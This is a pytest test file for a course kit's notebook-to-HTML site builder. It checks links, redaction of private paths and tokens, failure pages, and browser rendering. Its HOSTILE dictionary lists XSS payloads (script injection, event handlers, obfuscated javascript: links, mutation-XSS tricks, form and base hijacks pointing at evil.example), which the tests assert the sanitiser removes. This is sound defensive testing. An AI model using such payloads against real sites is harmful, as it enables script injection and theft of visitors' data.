"""course.py site: executed notebooks become safe pages, which a real browser opens
without a complaint.
"""

import base64
import io
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path
from urllib.parse import unquote, urlsplit

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from PIL import Image

import utils
from tools import cli
from tools.notebooks import run

pytest.importorskip("nbconvert")
from bs4 import BeautifulSoup  # noqa: E402

from kit.record import SCHEMA
from tools.web import build as site  # noqa: E402
from tools.web import pages  # noqa: E402

pytestmark = pytest.mark.bonus
# put together, so that no scanner takes this file for a leak
TOKEN = "gh" + "p_" + "a1B2" * 9
TABLE = """<div><style scoped>.dataframe th { color: red; }</style><table border="1">
<thead><tr style="text-align: right;"><th></th><th>name</th></tr></thead>
<tbody><tr><th>0</th><td>WIDE</td></tr></tbody></table></div>""".replace(
    "WIDE", "x" * 400
)
LINKS = (
    "[the next](theme2_baseline_model.ipynb#a), [a text](../docs/no.md), [a"
    " site](https://example.org/) ![remote](https://example.org/a.png)"
)
SOLUTION = (
    "<details><summary>Solution</summary>\n\n```python\nx = 42\n```\n\n</details>"
)


def picture() -> str:
    file = io.BytesIO()
    Image.new("RGB", (1300, 400), "white").save(file, "png")
    return base64.b64encode(file.getvalue()).decode()


def shown(kind: str, content: str):
    return new_output("display_data", data={"text/plain": "plain", kind: content})


def executed(path: Path, home: str) -> nbformat.NotebookNode:
    """What a run leaves: the first cell of the kit's, and outputs of each kind."""
    said = f"Results in {home}/exports, {Path.home()}/notes, \x1b[31m'{TOKEN}'\x1b[0m\n"
    outputs = [
        new_output("stream", text=said),
        shown("text/html", TABLE),
        shown("text/markdown", "#### Model card\n\n> Not a device."),
        shown("image/png", picture()),
        shown("image/svg+xml", "<svg><script>steal()</script></svg>"),
    ]
    cells = [
        nbformat.read(path, as_version=4).cells[0],
        new_markdown_cell(f"## 1 · What is wrong?\n\n{LINKS}\n\n{SOLUTION}"),
        new_code_cell(f'draw("word")  # {"y" * 200}', execution_count=1),
    ]
    cells[-1].outputs = outputs
    parameters = {"HOME": home, "SOURCE": "/srv/somebody/data"}
    ran = {"parameters": parameters, "input_path": f"/srv/kit/notebooks/{path.name}"}
    about = {"papermill": ran, "language_info": {"name": "python"}}
    return new_notebook(cells=cells, metadata=about)


def make_home(home: Path, dataset: str, source: str) -> Path:
    """A finished run, made by hand."""
    for path in run.notebooks(1, 8).values():
        there = home / "exports" / "notebooks" / path.name
        there.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(executed(path, f"/srv/somebody/{dataset}"), there)
    meta = {"dataset": dataset, "source": source, "hardware": "a CPU", "seed": 42}
    rows = [{"name": "lost", "passed": False}, {"name": "accuracy", "passed": True}]
    record = {
        "schema": SCHEMA,
        "meta": meta | {"profile": "quick", "image_size": 96, "recorded": "2026-01-02"},
        "headline": {"baseline_test_accuracy": 0.85123, "gate_passed": False},
        "criteria": {f"theme{theme}": rows for theme in range(1, 9)},
    }
    utils.write_json(home / "exports" / "results.json", record)
    return home


@pytest.fixture(scope="module")
def lungs(tmp_path_factory) -> Path:
    home = tmp_path_factory.mktemp("homes") / "my lungs"
    return make_home(home, "pneumonia", "/srv/somebody/data")


@pytest.fixture(scope="module")
def built(lungs, tmp_path_factory) -> Path:
    """The site of a home; read only."""
    out = tmp_path_factory.mktemp("out") / "my site"
    assert cli.main(["site", "--home", str(lungs), "--output", str(out)]) == 0
    return out


@pytest.fixture
def home(lungs, tmp_path) -> Path:
    """A private copy of that home, to break."""
    return Path(shutil.copytree(lungs, tmp_path / "lungs"))


def soup_of(path: Path) -> BeautifulSoup:
    return BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")


def text_of(path: Path) -> str:
    return " ".join(soup_of(path).get_text(" ").split())


def test_index_and_eight_pages_and_every_link_leads_somewhere(built):
    html = sorted(built.rglob("*.html"))
    assert len(html) == 1 + 8
    for page in html:
        assert len(soup_of(page)("h1")) == 1
        for element in soup_of(page)(["a", "link", "img", "script"]):
            address = element.get("href") or element.get("src")
            url = urlsplit(address)
            elsewhere = element.name == "a" and url.scheme == "https"
            there = (page.parent / unquote(url.path)).is_file() or not url.path
            assert elsewhere or url.scheme == "data" or there, (page, address)


def test_index_tells_criteria_figures_and_what_the_images_are(built, tmp_path):
    said = text_of(built / "index.html")
    for words in (
        "Chest X-rays",
        "1 of 2",
        "baseline test accuracy 0.8512",
        "gate passed False",
        "Not a medical device",
        "Measured on a CPU; profile quick at 96 px, seed 42; 2026-01-02.",
    ):
        assert words in said, words
    drawn = "mean nothing, medically or otherwise"
    assert drawn not in said
    site.build(make_home(tmp_path / "roofs", "solar", "sample"), tmp_path / "site")
    for name in ("index.html", "theme2_baseline_model.html"):
        assert drawn in text_of(tmp_path / "site" / name)


def test_outputs_survive_and_nothing_private_does(built):
    page = soup_of(built / "theme1_data_analysis.html")
    assert page.img["src"].startswith("data:image/png;base64,")
    assert page.img["alt"] == "Figure of the section “1 · What is wrong?”"
    assert page.find("td").get_text() == "x" * 400 and page.find("h4", id="Model-card")
    assert page.details.select_one(".highlight .mi").get_text() == "42"
    links = {a.get_text(): a["href"] for a in page.main.select("p a")}
    assert links == {
        "the next": "theme2_baseline_model.html#a",
        "a site": "https://example.org/",
    }
    said = " ".join(page.get_text().split())
    assert "Results in …/pneumonia/exports, ~/notes, 'ghp_…'" in said
    assert "a text, a site remote" in said and "OWNER/REPOSITORY" not in said
    for path in built.rglob("*.html"):
        content = path.read_text()
        for words in (
            "/srv/",
            f"{Path.home()}/",
            str(site.KIT),
            TOKEN,
            "steal",
            "scoped",
        ):
            assert words not in re.sub("[^ ]{300,}", "", content), (path, words)


def test_published_kit_links_to_colab():
    badge = "[![Open in Colab](https://x/y.svg)](https://z/github/{}/blob/main/n.ipynb)"
    for name, links in (("me/kit", 1), ("OWNER/REPOSITORY", 0)):
        notebook = new_notebook(cells=[new_markdown_cell(badge.format(name))])
        html = pages.body(notebook, {})
        assert html.count(">Open in Colab</a>") == links and "<img" not in html


HOSTILE = {
    "script": '<script src="//evil.example/a.js">steal()</script>',
    "frame": '<iframe src="//evil.example"></iframe><object data="//evil"></object>',
    "listener": '<p onmouseover="steal()">x</p><img src=x onerror="steal()">',
    "listener with an address": '<img onerror="data:image/png;base64,steal()">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "style": "<style>p { background: url(//evil.example/a.png) }</style>",
    "style of an element": '<p style="background:url(https:evil.example/a)">x</p>',
    "pictures": '<img srcset="//evil/a 2x"><picture><source srcset="//evil"></picture>',
    "drawing in an address": '<img src="data:image/svg+xml,<svg onload=steal()/>">',
    "form": '<form action="//evil.example"><input type="image" src="//evil"></form>',
    "SVG": '<svg><image href="//evil.example/a"/><script>steal()</script></svg>',
    "link": '<a href="JAVA&#115;cript:steal()" ping="//evil.example">x</a>',
    "link with blanks": '<a href=" java\tscript:steal()">x</a>',
    "page in a link": '<a href="data:text/html,<script>steal()</script>">x</a>',
    "MathML": "<math><mtext><style><img src=x onerror=steal()></style></mtext></math>",
    "never closed": '<noscript><p title="</noscript><img src=x onerror=steal()>">x',
    "comment": "<!--><img src=x onerror=steal()> evil.example -->",
    "torn": "</div></div></div><b><table><tr><td>1<details>",
}


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("kind", ["text/html", "text/markdown", "cell"])
def test_what_runs_leads_away_or_asks_the_network_is_taken_out(kind, name):
    html = f"<div>before {HOSTILE[name]}</div>\n"
    cell = new_code_cell("x", outputs=[shown(kind, html)])
    if kind == "cell":
        cell = new_markdown_cell(html)
    body = pages.body(new_notebook(cells=[cell, new_markdown_cell("# after")]), {})
    soup = BeautifulSoup(body, "html.parser")
    attributes = " ".join(str(element.attrs) for element in soup.find_all(True))
    assert not re.search("evil|steal", attributes), body
    assert not soup(["script", "style", "svg", "iframe", "meta", "base", "form"])
    assert "before" in soup.get_text() and not soup.h1.find_parent(["b", "table"])


PRIVATE = {
    "/home/ada/x and C:\\Users\\ada\\x and /Users/ada": "~/x and ~\\x and ~",
    "https://host/home/ada /srv/kit2/a /srv/kit/a": (
        "https://host/home/ada /srv/kit2/a …/kit/a"
    ),
    "/var/home/ada/x /mnt/c/Users/ada/x /root/x": "~/x ~/x ~/x",
    "file:///C:/Users/ada/x c:/users/ada": "file:///~/x ~",
    "\x1b[32m/home/ada/x\x1b[39m '/home/ada\x1b[0m'": "\x1b[32m~/x\x1b[39m '~\x1b[0m'",
    r"'read\n/home/ada/x'": r"'read\n~/x'",
    "./home/ada /roots s3://data/home/ada": "./home/ada /roots s3://data/home/ada",
    "/tmp/ipykernel_12/345.py:3: UserWarning": "(a cell):3: UserWarning",
    "password = 'your-password-1234567'": "password = 'your-password-1234567'",
    # in two parts, so that no scanner takes this file for a leak
    "password = 'a1b2" + "c3d4e5f6g7h8i9'": "password = 'a1b2…'",
}


@pytest.mark.parametrize("text", PRIVATE)
def test_private(text):
    assert pages.private(text, {"/srv/kit": "…/kit"}) == PRIVATE[text]


def stop(notebook, name: str, said: str) -> None:
    trace = [f"\x1b[31m{name}\x1b[0m", 'File "/srv/kit/utils.py", line 3']
    error = new_output("error", ename=name, evalue=said, traceback=trace)
    notebook.cells[-1].outputs = [error]
    mark = {"tags": ["papermill-error-cell-tag"]}
    notebook.cells.insert(0, new_markdown_cell("papermill's own", metadata=mark))


def never_finish(notebook) -> None:
    notebook.cells[-1].update(execution_count=None)
    notebook.cells.append(new_code_cell("x", execution_count=1))


BROKEN = {
    "fails": (
        lambda n: stop(n, "ValueError", "the dog <ate> it"),
        "ValueError: the dog",
    ),
    "refuses": (
        lambda n: stop(n, "CourseError", "There is no GPU."),
        "There is no GPU.",
    ),
    "killed": (never_finish, "its kernel was killed"),
    "clean": (lambda n: n.cells[-1].update(execution_count=None), "not executed"),
}


def test_theme_that_did_not_run_has_a_page_that_says_so(home, tmp_path, capsys):
    folder, out = home / "exports" / "notebooks", tmp_path / "site"
    paths = list(run.notebooks(1, 8).values())
    expected = {}
    for path, (change, words) in zip(paths, BROKEN.values(), strict=False):
        notebook = nbformat.read(folder / path.name, as_version=4)
        change(notebook)
        # beside the copy of an earlier run that went well
        nbformat.write(notebook, run.failed_copy(folder, folder / path.name))
        expected[path.stem] = words
    (folder / paths[4].name).unlink()
    (folder / paths[5].name).write_text('{"cells": [')
    expected |= {paths[4].stem: "has not been run", paths[5].stem: "is damaged"}
    assert site.main(["--home", str(home), "--output", str(out)]) == 1
    said = capsys.readouterr().out
    for name, words in expected.items():
        page = soup_of(out / f"{name}.html")
        assert words in page.select_one("[role=alert]").get_text() and words in said
        assert len(page("h1")) == 1 and "papermill's own" not in str(page)
        assert "/srv/" not in str(page)
    assert text_of(out / "index.html").count("did not run to its end") == 6


def test_what_cannot_be_built_is_one_sentence_and_the_earlier_site_stays(
    home, tmp_path, capsys, monkeypatch
):
    out, thesis = tmp_path / "site", tmp_path / "thesis"
    arguments = ["--home", str(home), "--output", str(out)]
    assert site.main(arguments) == 0 and site.main(arguments) == 0
    before = (out / "index.html").read_text()
    thesis.mkdir()
    (thesis / "chapter.txt").write_text("years of work")

    def refused(words: str, *arguments: str) -> None:
        capsys.readouterr()
        assert cli.main(["site", *arguments]) == 2
        told = capsys.readouterr().err
        assert words in told and told.count("\n") == 1

    refused("holds no executed notebook", "--home", str(thesis), *arguments[2:])
    refused("holds something else than", *arguments[:2], "--output", str(thesis))
    with monkeypatch.context() as patch:
        patch.delattr("tools.web.pages")
        patch.setitem(sys.modules, "tools.web.pages", None)
        refused("needs nbconvert: run `make site`", *arguments)
    (home / "exports" / "results.json").write_text('{"meta": ')
    refused("results.json is damaged", *arguments)
    assert (out / "index.html").read_text() == before
    assert [path.name for path in thesis.iterdir()] == ["chapter.txt"]


def test_theme_1_that_failed_before_any_record_can_be_shown(home, tmp_path):
    (home / "exports" / "results.json").unlink()
    (home / "course.json").write_text(json.dumps({"dataset": "solar"}))
    site.build(home, tmp_path / "site")
    assert "Roofs" in text_of(tmp_path / "site" / "index.html")


@pytest.mark.parametrize("failing, status", [("nothing", 0), ("run", 2), ("site", 2)])
def test_make_site_builds_after_a_failed_run_and_ends_with_failure(
    tmp_path, failing, status
):
    python = tmp_path / "bin" / "python"
    python.parent.mkdir()
    python.write_text(f'#!/bin/sh\necho "$2" >> log\ntest "$2" != {failing}\n')
    python.chmod(0o755)
    (tmp_path / "Makefile").symlink_to(site.KIT / "Makefile")
    found = ["BIN=bin", "BONUS=.", "STAMP=", "BONUS_STAMP="]
    done = subprocess.run(["make", "site", *found], cwd=tmp_path, capture_output=True)
    assert done.returncode == status, done.stderr
    assert (tmp_path / "log").read_text().split() == ["run", "site"]


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
def test_pages_in_a_browser(built, browse, width, scheme):
    for address in ("index.html", "theme1_data_analysis.html"):
        page = browse((built / address).as_uri(), width, color_scheme=scheme)
        page.evaluate("document.querySelectorAll('details').forEach(d => d.open = 1)")
        assert page.problems == []
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        dark = page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert (dark != "rgb(255, 255, 255)") == (scheme == "dark")
    page.get_by_role("link", name="next →").click()
    assert page.url.endswith("/theme2_baseline_model.html") and page.problems == []
